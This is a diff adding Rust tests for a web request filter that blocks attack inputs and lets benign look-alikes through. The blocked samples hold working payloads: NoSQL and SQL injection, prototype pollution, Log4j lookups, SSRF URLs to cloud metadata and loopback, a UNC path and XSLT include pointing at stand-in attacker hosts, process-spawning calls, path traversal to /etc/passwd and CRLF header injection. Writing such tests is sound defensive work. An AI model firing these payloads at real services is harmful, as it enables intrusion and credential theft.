@@ -1410,3 +1410,176 @@ fn numbered_copies_of_files_are_not_calls() {
         });
     }
 }
+
+/// Families written from their grammar for `threat-precision7`, each beside its look-alike:
+/// prototype pollution through nested JSON members, NoSQL operators in a JSON document sent
+/// as a string, XPath predicate break-outs, UNC paths, log4j's own lookups, CR/LF spelled
+/// with characters a truncating server writes as CR LF, cloud metadata addresses in other
+/// notations, XSLT instructions.
+#[test]
+fn other_families_versus_their_look_alikes() {
+    let json = "application/json";
+    for body in [
+        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
+        r#"{"user":{"settings":{"constructor":{"prototype":{"polluted":1}}}}}"#,
+        r#"{"q":"{\"user\":{\"$ne\":null},\"pass\":{\"$ne\":null}}"}"#,
+        r#"{"filter":"{'$where': 'sleep(5000) || true'}"}"#,
+        r#"{"search":"{ \"name\" : { \"$regex\" : \"^adm\" } }"}"#,
+    ] {
+        let a = body_request(json, body);
+        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
+    }
+    for body in [
+        r#"{"constructor":{"name":"Acme Builders","country":"DE"}}"#,
+        r#"{"product":{"prototype":true,"stage":"beta","constructor":"Acme"}}"#,
+        r#"{"prototype":{"id":3,"name":"v2 board"}}"#,
+        r#"{"note":"Save $5, $10 or more: {$name}, your order is {$status}"}"#,
+        r#"{"query":"{\"name\":\"Ann\",\"tags\":[\"$in-store\"]}"}"#,
+    ] {
+        let a = body_request(json, body);
+        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
+    }
+    for attack in [
+        "']/../user[position()=1]/password['",
+        "x'] | //user/*[contains(*,'",
+        "\")]/following::*[(\"",
+        "\\\\10.0.0.5\\share\\payload.dll",
+        "\\\\files.attacker.example@SSL@443\\dav\\report.docx",
+        "${sys:java.version}",
+        "${lower:j}${lower:n}${lower:d}${lower:i}",
+        "${upper:j}ndi",
+        "http://2852039166/latest/meta-data/",
+        "http://0xa9fea9fe/latest/meta-data/iam/",
+        "http://0251.0376.0251.0376/latest/",
+        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
+        "http://169.254.43518/computeMetadata/v1/",
+        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+        "<xsl:include href=\"http://203.0.113.9/x.xsl\"/>",
+        // Loopback spelled in other notations, as the value (as `http://localhost/` is).
+        "http://127.1/admin",
+        "http://2130706433/",
+        "http://017700000001:6379/",
+        "http://0/server-status",
+        // Other languages' process and code-loading APIs, called with an argument; OGNL.
+        "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\")",
+        "subprocess.Popen(['id'], shell=True)",
+        "pickle.loads(base64.b64decode(payload))",
+        "new ProcessBuilder(\"id\").start()",
+        "%{(#_='multipart/form-data').(#cmd='id')}",
+        // Fullwidth dots and slashes, which NFKC makes ASCII.
+        "．．／．．／．．／etc／passwd",
+        "..／..／..／etc／shadow",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+    for text in [
+        "total = row['sum']/row['count']",
+        "$..book[?(@.price < 10)]",
+        "\\\\fileserver\\reports\\2024\\q3.xlsx",
+        "Use ${env:PATH} or $env:PATH in PowerShell",
+        "Spring reads ${server.port:8080} and ${spring.profiles.active}",
+        "Version 2852039166 of the schema",
+        "The <xsl:value-of> element writes a node's text",
+        "嘊嘍 are rare characters",
+        "Use subprocess.run() instead of os.system() for new code",
+        "pickle.loads is unsafe on data you did not write",
+        "Process.Start() returns once the process has started",
+        "Ruby's %{#{name}} is a string literal with interpolation",
+        "Open http://127.1 and see",
+        "東京／大阪の出張．．．明日／あさって",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    // `${env:` counts at paranoia 1 in a header, where Log4Shell probes go; headers only a
+    // framework sets for itself change what it routes.
+    for (name, value) in [
+        ("x-api-version", "${env:AWS_SECRET_ACCESS_KEY}"),
+        (
+            "x-middleware-subrequest",
+            "middleware:middleware:middleware:middleware:middleware",
+        ),
+        ("x-rewrite-url", "/admin/users"),
+    ] {
+        let a = header_request(name, value);
+        assert_eq!(a.verdict, Verdict::Block, "{name}: {value} -> {a:?}");
+    }
+    let a = header_request("x-original-url", "/shop/cart");
+    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
+    let engine = Config::default().compile().unwrap();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    for (query, verdict) in [
+        (
+            "next=%E5%98%8A%E5%98%8DSet-Cookie:%20sid=evil",
+            Verdict::Block,
+        ),
+        (
+            "r=%E5%98%8D%E5%98%8ALocation:%20http://evil.example/",
+            Verdict::Block,
+        ),
+        ("q=%E5%98%8A%E5%98%8D", Verdict::Allow),
+        ("q=%E5%98%8A%20Location%20of%20the%20store", Verdict::Allow),
+    ] {
+        let uri = format!("/search?{query}");
+        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, verdict, "{query}: {a:?}");
+    }
+}
+
+/// Types the filter parses are inspected as what they are, not refused for their name: a
+/// vendor-tree `+json` or `+xml` type (RFC 6838 3.2, RFC 6839) is JSON or XML, and a
+/// `multipart/mixed` body is read part by part like form-data. Attacks inside them count.
+#[test]
+fn vendor_structured_types_and_mixed_multipart_are_inspected() {
+    let mixed = "multipart/mixed; boundary=batch_1";
+    for (content_type, body, verdict) in [
+        (
+            "application/vnd.api+json",
+            r#"{"data":{"type":"articles","attributes":{"title":"Rails is Omakase"}}}"#,
+            Verdict::Allow,
+        ),
+        (
+            "application/vnd.github+json",
+            r#"{"title":"Found a bug","body":"Steps: run `make`; see the error","labels":["bug"]}"#,
+            Verdict::Allow,
+        ),
+        (
+            "application/vnd.api+json",
+            r#"{"data":{"attributes":{"title":"<script>alert(1)</script>"}}}"#,
+            Verdict::Block,
+        ),
+        (
+            "application/vnd.acme.order-v2+json",
+            r#"{"filter":{"user":{"$ne":null}}}"#,
+            Verdict::Block,
+        ),
+        (
+            "application/vnd.acme.invoice+xml",
+            "<invoice><to>O'Brien</to><total>12.50</total></invoice>",
+            Verdict::Allow,
+        ),
+        (
+            "application/vnd.acme.invoice+xml",
+            "<invoice><to>' or '1'='1</to></invoice>",
+            Verdict::Block,
+        ),
+        (
+            mixed,
+            "--batch_1\r\nContent-Type: application/json\r\n\r\n{\"name\":\"Ann\"}\r\n--batch_1\r\nContent-Type: application/json\r\n\r\n{\"name\":\"Bob\"}\r\n--batch_1--\r\n",
+            Verdict::Allow,
+        ),
+        (
+            mixed,
+            "--batch_1\r\nContent-Type: text/plain\r\n\r\n1 UNION SELECT password FROM users--\r\n--batch_1--\r\n",
+            Verdict::Block,
+        ),
+        // A type the filter does not parse stays refused, as in CRS.
+        ("application/x-amf", "\u{0}\u{3}binary", Verdict::Block),
+    ] {
+        let a = body_request(content_type, body);
+        assert_eq!(a.verdict, verdict, "{content_type}: {body} -> {a:?}");
+    }
+}
